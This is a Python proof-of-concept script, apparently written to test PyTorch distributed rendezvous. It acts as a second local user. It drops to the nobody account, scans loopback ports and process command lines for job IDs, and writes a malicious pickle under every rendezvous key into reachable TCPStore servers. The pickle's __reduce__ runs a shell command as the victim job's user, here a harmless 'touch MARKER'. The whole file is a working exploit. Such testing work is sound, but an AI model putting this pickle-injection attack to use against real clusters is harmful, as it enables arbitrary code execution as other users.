"""A second local user attacks running jobs' stores: pickles under every rendezvous key it can name.

Usage (as root): python store_attacker.py MARKER [KNOWN_ID...]
It drops to `nobody` before looking at anything, then uses only what that user can see: the
loopback ports in /proc/net/tcp, every process's command line, and the names in the temp dirs.
If any payload is ever unpickled, it runs `touch MARKER` as the job's user.
"""

import base64
from concurrent.futures import ThreadPoolExecutor, wait  # imported before the drop: /root is closed to nobody
import datetime
import glob
import os
import pickle
import pwd
import re
import sys
import tempfile

import torch.distributed as dist

nobody = pwd.getpwnam("nobody")
os.setgroups([])
os.setgid(nobody.pw_gid)
os.setuid(nobody.pw_uid)

marker, known = sys.argv[1], sys.argv[2:]
ID = re.compile(r"ddprun-[0-9a-f]{6,}")


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))


def loopback_ports() -> set[int]:
    ports = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(name) as f:
            for line in list(f)[1:]:
                local, state = line.split()[1], line.split()[3]
                address, port = local.split(":")
                if state == "0A" and address in ("0100007F", "00000000000000000000000001000000"):
                    ports.add(int(port, 16))
    return ports


def visible_ids() -> set[str]:
    found = set(known)
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.update(ID.findall(open(path, "rb").read().decode(errors="replace")))
        except OSError:
            pass
    for folder in {tempfile.gettempdir(), "/tmp", os.environ.get("TMPDIR", "/tmp")}:
        for path in glob.glob(f"{folder}/*") + glob.glob(f"{folder}/*/*"):
            found.update(ID.findall(path))
    return found


def attack(port: int, ids: set[str], payload: bytes) -> bool:
    """Reach the store on `port` (a gloo or other listener just times out) and write the payloads."""
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=3))
        store.set("attacker/probe", "1")
        if store.get("attacker/probe") != b"1":
            return False
        for run_id in ids:
            store.set(f"torch.rendezvous.{run_id}", payload)
        return True
    except Exception:
        return False


payload = base64.b64encode(pickle.dumps(Payload()))
ids = visible_ids()
# A TCPStore client that meets another kind of listener can hang past its timeout: give every
# port 15 s in a thread of its own, then leave without waiting for the stuck ones.
pool = ThreadPoolExecutor(max_workers=64)
futures = [pool.submit(attack, port, ids, payload) for port in sorted(loopback_ports())]
done, _ = wait(futures, timeout=15)
reached = sum(1 for f in done if f.result())
print(f"reached {reached} stores, wrote {len(ids)} candidate ids", flush=True)
os._exit(0)
